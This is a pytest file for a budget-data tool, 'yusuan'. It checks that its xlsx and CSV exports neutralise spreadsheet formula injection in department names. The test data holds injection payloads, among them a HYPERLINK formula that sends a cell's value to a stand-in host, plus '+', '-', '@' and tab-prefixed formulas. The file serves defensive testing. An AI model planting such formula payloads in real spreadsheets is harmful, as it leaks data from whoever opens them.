"""Issue 13 (3): text that starts like a formula (``= + - @``, tab, CR) is never a live formula in
any spreadsheet or CSV yusuan writes — export (xlsx, csv, datapackage; parquet keeps it exact),
compare (xlsx, csv), review (xlsx), publish (xlsx) — and amounts stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from tests.conftest import seed_path
from yusuan.cli import app
from yusuan.report.xlsx_style import FORMULA_STARTS, looks_like_formula, safe_text
from yusuan.store.db import make_engine
from yusuan.store.schema import Department

runner = CliRunner()

SEED_NAME = "乐亭县人民代表大会常务委员会"
#: Department names a spreadsheet would run (each stored as its own department). The reader
#: drops a leading "-" or tab from a name it reads, so those two are set in the store afterwards.
READ_NAMES = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")乐亭县人大',
    "+1+1乐亭县人大",
    "@SUM(A1:A9)乐亭县人大",
    "甲乐亭县人大",
    "乙乐亭县人大",
)
SET_NAMES = {"甲乐亭县人大": "-2+3乐亭县人大", "乙乐亭县人大": "\t=1+1乐亭县人大"}
NAMES = tuple(SET_NAMES.get(n, n) for n in READ_NAMES)
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def test_looks_like_formula() -> None:
    for text in (*NAMES, "=1", "\tx", "\rx", "-1+1", "+A1", "@x"):
        assert looks_like_formula(text), text
        assert safe_text(text) == "'" + text
    for text in ("乐亭", "-12.50", "+3", "1-2", "", "—", "'=1"):
        assert not looks_like_formula(text), text
        assert safe_text(text) == text


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    folder = tmp_path_factory.mktemp("formulas")
    text = seed_path("000").read_text(encoding="utf-8")
    url = f"sqlite:///{folder / 'store.sqlite'}"
    for i, name in enumerate(READ_NAMES):
        path = folder / f"{i}.txt"
        path.write_text(text.replace(SEED_NAME, name), encoding="utf-8")
        result = runner.invoke(app, ["ingest", str(path), "--db", url])
        assert result.exit_code == 0, result.output
    engine = make_engine(url)
    with engine.begin() as c:
        for old, new in SET_NAMES.items():
            c.execute(update(Department).where(Department.name == old).values(name=new))
    engine.dispose()
    listed = json.loads(runner.invoke(app, ["list", "--json", "--db", url]).stdout)
    assert {e["department"]["name"] for e in listed} == set(NAMES)
    return url, folder


def assert_no_formula_cell(path: Path) -> list[str]:
    """Every cell of the workbook: no formula; formula-like text is a string cell with the quote
    prefix. Returns the workbook's text values."""
    texts: list[str] = []
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if looks_like_formula(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    return texts


def assert_no_live_csv_field(text: str, numbers: set[str] = frozenset()) -> list[list[str]]:  # type: ignore[assignment]
    """No field begins with = + - @ tab CR unless it is a plain number; ``numbers`` names the
    columns whose values must be plain numbers (never quoted)."""
    rows = list(csv.reader(io.StringIO(text)))
    head = rows[0]
    for row in rows[1:]:
        for column, field in zip(head, row, strict=True):
            if field.startswith(FORMULA_STARTS):
                assert PLAIN_NUMBER.fullmatch(field), (column, field)
            if column in numbers and field:
                assert PLAIN_NUMBER.fullmatch(field), (column, field)
    return rows


def test_export_xlsx_csv_datapackage_parquet(db: tuple[str, Path], tmp_path: Path) -> None:
    url, _ = db
    for fmt, target in (("xlsx", "open.xlsx"), ("csv", "csv"), ("datapackage", "dp"), ("parquet", "pq")):
        result = runner.invoke(app, ["export", "-f", fmt, "-o", str(tmp_path / target), "--db", url])
        assert result.exit_code == 0, result.output
    texts = assert_no_formula_cell(tmp_path / "open.xlsx")
    assert set(NAMES) <= set(texts)  # exact text, a string cell

    schema = json.loads((tmp_path / "dp" / "datapackage.json").read_text(encoding="utf-8"))
    for resource in schema["resources"]:
        numbers = {f["name"] for f in resource["schema"]["fields"] if f["type"] in ("number", "integer")}
        for folder, encoding in (("csv", "utf-8-sig"), ("dp", "utf-8")):
            text = (tmp_path / folder / resource["path"]).read_text(encoding=encoding)
            rows = assert_no_live_csv_field(text, numbers)
            if resource["name"] == "departments":
                names = {dict(zip(rows[0], r, strict=True))["name"] for r in rows[1:]}
                assert names == {"'" + n for n in NAMES}

    import pyarrow.parquet as pq  # type: ignore[import-untyped, unused-ignore]

    assert set(pq.read_table(tmp_path / "pq" / "departments.parquet").column("name").to_pylist()) == set(NAMES)


def test_compare_xlsx_and_csv(db: tuple[str, Path], tmp_path: Path) -> None:
    url, _ = db
    for name in ("c.xlsx", "c.csv"):
        result = runner.invoke(app, ["compare", "-o", str(tmp_path / name), "--db", url])
        assert result.exit_code == 0, result.output
    texts = assert_no_formula_cell(tmp_path / "c.xlsx")
    assert set(NAMES) <= set(texts)
    rows = assert_no_live_csv_field((tmp_path / "c.csv").read_text(encoding="utf-8-sig"))
    departments = [dict(zip(rows[0], r, strict=True))["部门"] for r in rows[1:]]
    assert sorted(departments) == sorted("'" + n for n in NAMES)
    # amounts are numbers: the workbook's amount columns hold numbers, not text
    book = load_workbook(tmp_path / "c.xlsx")["比较"]
    heads = [c.value for c in book[1]]
    total = next(i for i, h in enumerate(heads) if isinstance(h, str) and "支出合计" in h)
    assert all(isinstance(row[total].value, float | int) for row in book.iter_rows(min_row=2))


def test_review_xlsx(db: tuple[str, Path], tmp_path: Path) -> None:
    _, folder = db
    target = tmp_path / "r.xlsx"
    files = [str(folder / f"{i}.txt") for i in range(len(READ_NAMES))]
    result = runner.invoke(app, ["review", *files, "-o", str(target)])
    assert result.exit_code in (0, 1), result.output
    texts = assert_no_formula_cell(target)
    assert all(any(name in t for t in texts) for name in READ_NAMES[:3])


def test_publish_xlsx_keeps_numbers_and_text(tmp_path: Path) -> None:
    import yusuan
    from yusuan.publish.api import render

    d = yusuan.read(seed_path("000"))
    d.department.name = NAMES[0]
    path = tmp_path / "p.xlsx"
    path.write_bytes(next(iter(render(d, "xlsx").values())))
    texts = assert_no_formula_cell(path)
    assert any(NAMES[0] in t for t in texts)
    numbers = [
        c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row
        if isinstance(c.value, float | int)
    ]  # fmt: skip
    assert Decimal("618.63") in {Decimal(str(v)) for v in numbers}  # an amount is a number cell
